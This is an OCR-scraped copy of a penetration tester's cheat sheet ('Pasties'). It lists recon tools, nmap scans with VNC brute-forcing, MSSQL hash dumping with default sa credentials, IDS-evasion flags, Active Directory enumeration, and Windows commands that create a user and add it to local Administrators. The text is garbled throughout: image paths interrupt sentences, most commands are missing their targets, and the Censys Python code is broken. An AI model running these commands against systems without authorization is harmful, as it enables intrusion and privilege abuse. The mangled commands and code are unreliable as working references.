Penetration Testing Pasties


‘Pasties’ started as a small file used to collect random bits of information and scripts that were common to many individual tests. Most of this is just a consolidation of publicly available information and things that Joe Vest (@joevest), Andrew Chiles (@andrewchiles), DerekRushing, or myself (@minis_io) have found useful. Over time additional sections, section placeholders, snippets, and links were added for “quick reference” and has grown to quite a sizable markdown file. The more complex or longer sections will be separated into smaller more detailed write-ups; however, we decided to drop the short and generic info for public use now. Pasties data will also eventually be formatted and added to the wiki.

As usual, you can find the raw file and get the latest version of tools on our GitHub repository:

Penetration Testing Methodology ReferencesPenetration Testing Framework


Penetration Testing Execution Standard



Good writeup on passive information gatheringPassword Breach Database, requires subscription






Metagoofil is an information gathering tool designed for extracting metadata of public documents (pdf,doc,xls,ppt,docx,pptx,xlsx) related to a target domain. It can give a lot of important information by scanning the obtained files. It can generate an HTML page with the result of the metadata extracted, plus a list of potential usernames, very useful for preparing a brute force attack on open services like ftp, web application, VPN, pop3, etc.

Metagoofil performs the following:

  • Searches the given file type using the Google search engine
  • Downloads all the documents found
  • Extracts metadata from downloaded documents
  • Saves the result in HTML file

Perform document metadata searching on target domain using first 200 google results

metagoofil -d .com -t pdf,doc,xls,ppt,odp,ods,docx,xlsx,pptx -l 200 -n 5 -o /tmp/metagoofil/ -f /tmp/metagoofil/result.html

Censys is a search engine that allows computer scientists to ask questions about the devices and networks that compose the Internet. Driven by Internet-wide scanning, Censys lets researchers find specific hosts and create aggregate reports on how devices, websites, and certificates are configured and deployed.

  • Create an account and get an API key for use in ReconNG or manual searching

Python API

# pip install censys import censys.ipv4 c =censys.ipv4.CensysIPv4(api_id="Get from MyAccount at", api_secret="Get from MyAccount at") ranges=["X.X.X.0/24", "X.X.X.0/24", "X.X.X.0/24"] for range in ranges: results = for result in results: for port in result["protocols"]: print result["ip"] + "," + port


Network Scanning


Normal dns reverse lookup of IP range with CSV output

dnsrecon -t rvl -r -c output.csv


Perform default enumeration of a domain

dnsrecon -d


Perform zone transfer attempt

dnsrecon -t axfr -d

╰ $ dnsrecon -h
Version: 0.8.10

-h, --help Show this help message and exit.
-d, --domain Target domain.
-r, --range IP range for reverse lookup brute force in formats (first-last) or in (range/bitmask).
-n, --name_server Domain server to use. If none is given, the SOA of the target will be used.
-D, --dictionary Dictionary file of subdomain and hostnames to use for brute force.
-f Filter out of brute force domain lookup, records that resolve to the wildcard defined
IP address when saving records.
-t, --type Type of enumeration to perform:
std SOA, NS, A, AAAA, MX and SRV if AXRF on the NS servers fail.
rvl Reverse lookup of a given CIDR or IP range.
brt Brute force domains and hosts using a givendictionary.
srv SRV records.
axfr Test all NS servers for a zone transfer.
goo Perform Google search for subdomains and hosts.
snoop Perform cache snooping against all NS servers for a given domain, testing
all with file containing the domains, file given with -D option.
tld Remove the TLD of given domain and test against all TLDs registered in IANA.
zonewalk Perform a DNSSEC zone walk using NSEC records.
-a Perform AXFR with standard enumeration.
-s Perform a reverse lookup of IPv4 ranges in the SPF record with standard enumeration.
-g Perform Google enumeration with standard enumeration.
-w Perform deep whois record analysis and reverse lookup of IP ranges found through
Whois when doing a standard enumeration.
-z Performs a DNSSEC zone walk with standard enumeration.
--threads Number of threads to use in reverse lookups, forward lookups, brute force and SRV
record enumeration.--lifetime Time to wait for a server to response to a query.
--db SQLite 3 file to save found records.
--xml XML file to save found records.
--iw Continue brute forcing a domain even if a wildcard records are discovered.
-c, --csv Comma separated value file.
-j, --json JSON file.
-v Show attempts in the brute force modes.



Perform lookup against with additional DNS reverse on all ranges discovered

theharvester -d -c -n -b google -l 1000 [-f output]

Usage: theharvester options

-d: Domain to search or company name
-b: data source: google, googleCSE, bing, bingapi, pgplinkedin, google-profiles, people123, jigsaw,
twitter, googleplus, all

-s: Start in result number X (default: 0)
-v: Verify host name via dns resolution and search for virtual hosts
-f: Save the results into an HTML and XML file
-n: Perform a DNS reverse query on all ranges discovered
-c: Perform a DNS brute force for the domain name
-t: Perform a DNS TLD expansion discovery
-e: Use this DNS server
-l: Limit the number of results to work with(bing goes from 50 to 50 results,
-h: use SHODAN database to query discovered hosts
google 100 to 100, and pgp doesn't use this option)

theharvester -d -l 500 -b google
theharvester -d -b pgp
theharvester -d microsoft -l 200 -b linkedintheharvester -d -b googleCSE -l 500 -s 300



Host discovery

nmap -sn -n
nmap -A (run this second)
nmap -sV -F
nmap -p- -sV -O -T4 -v7 -sC


Open SMB shares

nmap --script=smb-enum-shares -p445


Open NFS Shares

nmap -p 111,2049 --script nfs-ls,nfs-showmount


UDP scan:

nmap -sU -F -Pn -v -d -sC -sV --open --reason -T5


Anonymous FTP

nmap -sC -sV -p21
nmap -sV -n -sS -Pn-vv --open -p21 --script=ftp-anon,ftp-bounce,ftp-libopie,ftp-proftpd-backdoor,ftp-vsftpd-backdoor,ftp-vuln-cve2010-4221


VNC Brute

nmap --script=vnc-brute -p5800,5900Rawr Scan

nmap -sV --open -T4 -v7 -p80,280,443,591,593,981,1311,2031,2480,3181,4444,4445,4567,4711,4712,5104,5280,5800,5988,5989,7000,7001,7002,8008,8011,8012,8013,8014,8042,8069,8080,8081,8243,8280,8281,8531,8887,8888,9080,9443,11371,12443,16080,18091,18092 -iL live-hosts.txt -oA web



nmap -vv-sV -Pn-n -p1433 --script=ms-sql-info,ms-sql-config,ms-sql-dump-hashes --script-args=mssql.instance-port=1433,smsql.username-sa,mssql.password-sa -oA



nmap -vv -sS -Pn-n -p80,443,8080 --script=http-vhosts,http-userdir-enum,http-apache-negotiation,http-backup-finder,http-config-backup,http-default-accounts,http-email-harvest,http-methods,http-method-tamper,http-passwd,http-robots.txt -oA


IDS Evasion

Append extra random data to change default packet lengths

–data-length 15


Randomize scan order





Get the most recent versiongit clone


Faster Scan

./ --web -f hosts.txt --timeout 5 --threads 10 -d /mnt/event/Recon/ew --results 1000 --no-prompt --user-agent IE --add-https-ports 443,8443 --add-http-ports 80,8080 --prepend-httpsSlow version via proxychains

proxychains ./ --web -f hosts.txt --timeout 10 --threads 2 -d /mnt/event/Recon/ew --no-dns --results 1000 --no-prompt --user-agent IE --add-https-ports 443,8443 --add-http-ports 80,8080 --prepend-https

proxychains ./ --web -x nmaphosts.xml --timeout 10 --threads 2 -d /mnt/event/Recon/ew2 --no-dns --results 1000 --no-prompt --user-agent IE --add-https-ports 443,8443 --add-http-ports 80,8080 --prepend-https


Proxychains specify a remote DNS server

On Kali linux its found here: /usr/lib/proxychains3/proxyresolv


# This script is called by proxychains to resolve DNS names

# DNS server used to resolve names

if [ $# = 0 ] ; then
echo " usage:"
echo " proxyresolv "

dig $1 @$DNS_SERVER +tcp | awk '/A.+[0-9]+\.[0-9]+\.[0-9]/{print $5;}'


Use Canary tokens to identify web front-end vulnerabilities

In combination with Burp collaborator, identify configuration issues with web front-end appliancesFor example, issue request to target domain with a custom Host header pointing to your collaborator/canary:


GET / HTTP/1.1
Connection: close


Response (on Collaborator):

GET / HTTP/1.1
Host: XX.X.XXX.XX:8082

HTTP/1.1 200 Connection Established
Date: Tue, 07 Feb 2017 16:32:50 GMT
Transfer-Encoding: chunked
Connection: close

/ HTTP/1.1 is unavailable
Unknown Command
Unknown Command
Unknown Command
Blog – Targeting HTTP’s Hidden Attack Surface


Built-in Commands

View your current user:



View information about the current user:

net user myuser(for a local user)
net user myuser /domain (for a domain user)


View the local groups:

net localgroup


View the local administrators:

net localgroup Administrators


Add a new user:

net user myuser mypass /add


Add a user in the local Administrators group:net localgroup Administrators myuser /add


View the domain name of current machine:

net config workstation
net config server


View the name of the domain controller:

reg query "HKEY_LOCAL_MACHINE\ SOFTWARE\Microsoft\Windows\ CurrentVersion\Group Policy\ History" /v DCName


Import-Module ActiveDirectory; (Get-ADDomainController -DomainName -Discover -NextClosestSite).HostName


set l


Get list of DCs

nltest /dclist:domainname


netdom query /D:domin DCdsquery server


nslookup -type=srv


Get DC Info

nltest /dsgetdc:domain


Get DC site mapping

nltest /



netdom query /D:domain PDCnslookup -type=srv

or get roles

Get Roles

netdom query /D:domain FSMO


View the list of domain users:

C:\> wmic useraccount where (domain='%USERDOMAIN%') get Name > userlist.txt

PS C:\> ([adsisearcher]"objectCategory=User").Findall() | ForEach
{$} | Sort | Out-File -Encoding ASCII users.txt


net user /domain


Get domain info (including DC)

gpresult /z


View the list of domain admins:

net group "Domain Admins" /domainView domain groups

net group /domain
